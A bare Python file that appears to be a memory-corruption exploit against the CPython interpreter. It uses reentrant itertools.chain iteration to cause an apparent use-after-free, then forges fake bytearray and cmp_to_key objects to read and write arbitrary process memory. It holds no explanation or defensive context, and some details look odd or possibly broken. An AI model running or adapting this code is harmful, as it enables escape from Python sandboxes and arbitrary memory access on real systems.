from functools import cmp_to_key
from itertools import chain

def word(number):
    return number.to_bytes(4, "little")

def address_in(text):
    """Methods tell the address of their object when they are printed."""
    return int(text.split("0x")[1].split(">")[0], 16)

def compare(pointer, value):
    """Has what lies at `pointer` compared with `value`, as if it were an object."""
    asked = [0]
    held = []
    shape = pointer << 60
    def answer():
        if asked[0]:
            return 0
        asked[0] = 1
        # The chain is asked while it asks: it lets go of the iterator that this very call comes from.
        next(links, None)
        held.append(shape + 1)
        return value
    before = [shape + i for i in range(100)]
    source = iter(answer, 0)
    after = [shape + i for i in range(10)]
    links = chain(source)
    del source
    return next(links, "equal")

BYTEARRAY = address_in(repr(bytearray.fromhex))

def forged(start, size):
    """The bytes of a bytearray over any part of memory."""
    parts = [word(1 << 20), word(BYTEARRAY), word(size), word(size + 1), word(start), word(start), word(0)]
    return bytes(b"".join(parts))

def read_byte(start):
    fake = forged(start, 1)
    at = address_in(repr(fake.hex)) + 16
    for number in range(256):
        if compare(at, bytes([number])) == "equal":
            return number

caught = []

def catch(one, other):
    caught.append(one)
    return 1

def open_window():
    global whole, key
    wrapped = cmp_to_key(catch)(5)
    kind = 0
    for i in range(4):
        kind += read_byte(address_in(repr(wrapped)) + 4 + i) << 8 * i
    whole = forged(8, 31_000_000)
    parts = [word(1 << 20), word(kind), word(address_in(repr(catch))), word(address_in(repr(whole.hex)) + 16)]
    key = bytes(b"".join(parts))
    compare(address_in(repr(key.hex)) + 16, wrapped)
    return caught[0]
